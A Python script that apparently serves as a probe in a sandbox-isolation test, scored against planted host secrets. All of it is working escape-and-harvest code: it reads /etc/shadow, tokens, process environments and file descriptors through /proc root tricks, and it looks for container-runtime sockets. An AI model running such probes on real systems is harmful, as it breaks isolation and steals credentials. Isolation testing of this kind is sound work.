"""Looks around, and keeps what it finds."""
import glob
import os

from planted import HOST, OUTPUT, write_scores

write_scores()
found = open(OUTPUT + '/found.bin', 'wb')


def keep(path, most=1 << 16):
    try:
        with open(path, 'rb') as file:
            found.write(file.read(most))
    except OSError:
        pass


paths = [HOST['secretFile'], HOST['privateFolder'] + '/token.txt', HOST['workerFolder'], '/etc/shadow', '/root/.bash_history']
roots = ['', '/proc/1/root', f"/proc/{HOST['workerPid']}/root", '/proc/self/root/..', '/proc/self/cwd/../../..', '/mnt', '/host', '/oldroot', '/newroot']
for root in roots:
    for path in paths:
        keep(root + path)
for pattern in ('/proc/*/environ', '/proc/*/cmdline', '/proc/*/fd/*', '/proc/*/maps', '/proc/self/mountinfo', '/proc/keys', '/proc/key-users', '/run/**', '/var/run/*', '/var/lib/docker/*', '/sys/fs/cgroup/**', '/tmp/**', '/dev/fd/*'):
    for path in glob.glob(pattern, recursive=True)[:300]:
        # Its own streams would be waited for.
        if os.path.isfile(path) and not os.path.realpath(path).startswith(OUTPUT):
            keep(path, 4096)
for handle in range(3, 64):
    for path in ('', '/..', '/../..', HOST['secretFile']):
        keep(f'/proc/self/fd/{handle}{path}')
for path in ('/var/run/docker.sock', '/run/containerd/containerd.sock', '/run/podman/podman.sock', '/run/user/0/docker.sock'):
    if os.path.exists(path):
        found.write(b'there is ' + path.encode())
